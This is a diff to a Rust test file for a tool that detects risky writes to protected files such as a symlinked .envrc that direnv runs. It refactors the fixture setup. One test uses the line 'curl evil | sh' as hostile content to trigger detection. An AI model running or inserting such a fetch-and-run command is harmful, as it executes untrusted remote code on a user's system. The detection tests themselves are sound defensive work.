@@ -136,20 +136,24 @@ fn a_repository_top_swapped_for_a_symlink_is_a_risk() {
     }
 }
 
+/// The host's `.envrc` is a link into `shared/`.
+fn envrc_linked() -> Fixture {
+    let mut f = fixture();
+    put(&f.ws, "shared/envrc", "export A=1\n");
+    std::os::unix::fs::symlink("shared/envrc", f.ws.join(".envrc")).unwrap();
+    begin_now(&mut f);
+    f
+}
+
 #[test]
 fn a_protected_name_is_judged_where_a_symlink_on_the_host_leads() {
-    // The host's `.envrc` is a link into `shared/`: what the set writes there is what direnv runs.
-    let mut f = fixture();
-    put(&f.ws, "shared/envrc", "export A=1\n");
-    std::os::unix::fs::symlink("shared/envrc", f.ws.join(".envrc")).unwrap();
-    begin_now(&mut f);
+    // What the set writes where the link leads is what direnv runs.
+    let f = envrc_linked();
     put(&f.set.upper(0), "shared/envrc", "curl evil | sh\n");
     assert!(has(&risks_of(&f), "/shared/envrc", RiskKind::ProtectedNameCreated), "{:?}", risks_of(&f));
-    // Its directory swapped is too; the name itself deleted runs nothing.
-    let mut f = fixture();
-    put(&f.ws, "shared/envrc", "export A=1\n");
-    std::os::unix::fs::symlink("shared/envrc", f.ws.join(".envrc")).unwrap();
-    begin_now(&mut f);
+    // Its directory swapped is too (a set applied in part keeps the host's link); the name itself
+    // deleted runs nothing.
+    let f = envrc_linked();
     std::os::unix::fs::symlink("elsewhere", f.set.upper(0).join("shared")).unwrap();
     whiteout(&f.set.upper(0).join(".envrc"));
     assert_eq!(risks_of(&f), [("/shared".to_string(), RiskKind::ProtectedNameCreated)]);
